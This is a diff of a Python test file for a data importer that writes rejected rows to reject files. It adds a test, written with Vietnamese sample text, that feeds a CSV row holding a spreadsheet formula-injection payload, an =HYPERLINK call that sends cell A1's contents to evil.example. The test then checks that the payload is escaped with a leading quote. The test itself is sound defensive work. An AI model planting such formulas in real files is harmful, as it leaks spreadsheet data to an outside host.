@@ -283,3 +283,14 @@ def test_a_bad_row_never_stops_a_jsonl_import(tmp_path, env):
     rejects = [json.loads(line) for line in (tmp_path / "tin.rejects.jsonl").open()]
     assert {4, 5, 6} <= {r["line"] for r in rejects} <= {2, 4, 5, 6}
     assert next(r for r in rejects if r["line"] == 4)["title"] == "Tin \ud800 hỏng"
+
+
+def test_rejected_rows_cannot_run_as_formulas_when_opened_in_a_spreadsheet(tmp_path, env):
+    source = tmp_path / "doc.csv"
+    source.write_text(
+        HEADER + '=HYPERLINK("http://evil.example/?x="&A1;"Bấm"),Tin,Nội dung.,vendor-a,,,,\n',
+        encoding="utf-8",
+    )
+    run(env, str(source))
+    (rejected,) = csv.DictReader((tmp_path / "doc.rejects.csv").open(encoding="utf-8"))
+    assert rejected["url"] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Bấm")'
